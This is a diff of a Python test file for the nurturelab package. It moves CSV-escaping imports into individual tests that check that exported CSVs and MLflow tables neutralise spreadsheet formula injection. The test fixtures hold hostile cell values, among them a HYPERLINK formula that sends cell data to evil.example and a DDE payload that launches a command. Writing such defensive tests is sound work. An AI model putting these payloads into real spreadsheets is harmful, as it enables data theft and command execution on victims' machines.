@@ -7,7 +7,6 @@ import numpy as np
 import pandas as pd
 
 from nurturelab import tracking
-from nurturelab._csv import escape_formulas, write_csv
 from nurturelab.cli import main
 from nurturelab.simulation import World, simulate
 
@@ -16,6 +15,8 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A
 
 
 def test_write_csv_escapes_text_cells_index_and_names_not_numbers(tmp_path):
+    from nurturelab._csv import write_csv
+
     frame = pd.DataFrame({"who": HOSTILE + ["ann", None], "n": [-1.5, 2, 3, 4, 5, 6, 7],
                           "=col": pd.Categorical(["a"] * 6 + ["=b"])},
                          index=pd.Index([f"L{i}" for i in range(6)] + ["=idx"], name="lead_id"))
@@ -58,6 +59,8 @@ def test_score_apply_out_escapes_lead_attributes(tmp_path, monkeypatch):
 
 
 def test_tables_logged_to_mlflow_are_escaped(_private_mlflow_store):
+    from nurturelab._csv import escape_formulas
+
     table = pd.DataFrame({"segment": ["=HYPERLINK(1)", "web"], "leads": [3, -4]})
     with tracking.run("t"):
         tracking.log_table(table, "segments")
